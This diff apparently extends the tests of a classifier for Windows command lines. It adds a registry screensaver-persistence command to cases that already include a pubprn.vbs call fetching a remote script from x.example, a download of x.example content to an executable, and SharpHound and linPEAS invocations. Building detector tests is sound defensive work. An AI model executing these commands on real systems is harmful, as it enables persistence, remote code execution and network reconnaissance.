@@ -188,6 +188,7 @@ def test_a_quoted_program_is_one_where_the_line_hands_on_powershell() -> None:
         ("pubprn.vbs 127.0.0.1 script:https://x.example/a.sct", "proxy_execution"),
         ("frobnicate.exe /s calc.exe", "runs_program"),
         ("SharpHound.exe -c All", "attack_tool"),
+        (r'reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\a.scr', "persistence"),
         (r'[IO.Directory]::GetFiles("\\.\pipe\")', "security_discovery"),
         (r"C:\Windows\System32\Some\GfxWrapper.exe http://x.example/a C:\temp\a.exe", "download"),
         (r".\linPEAS.sh", "attack_tool"),
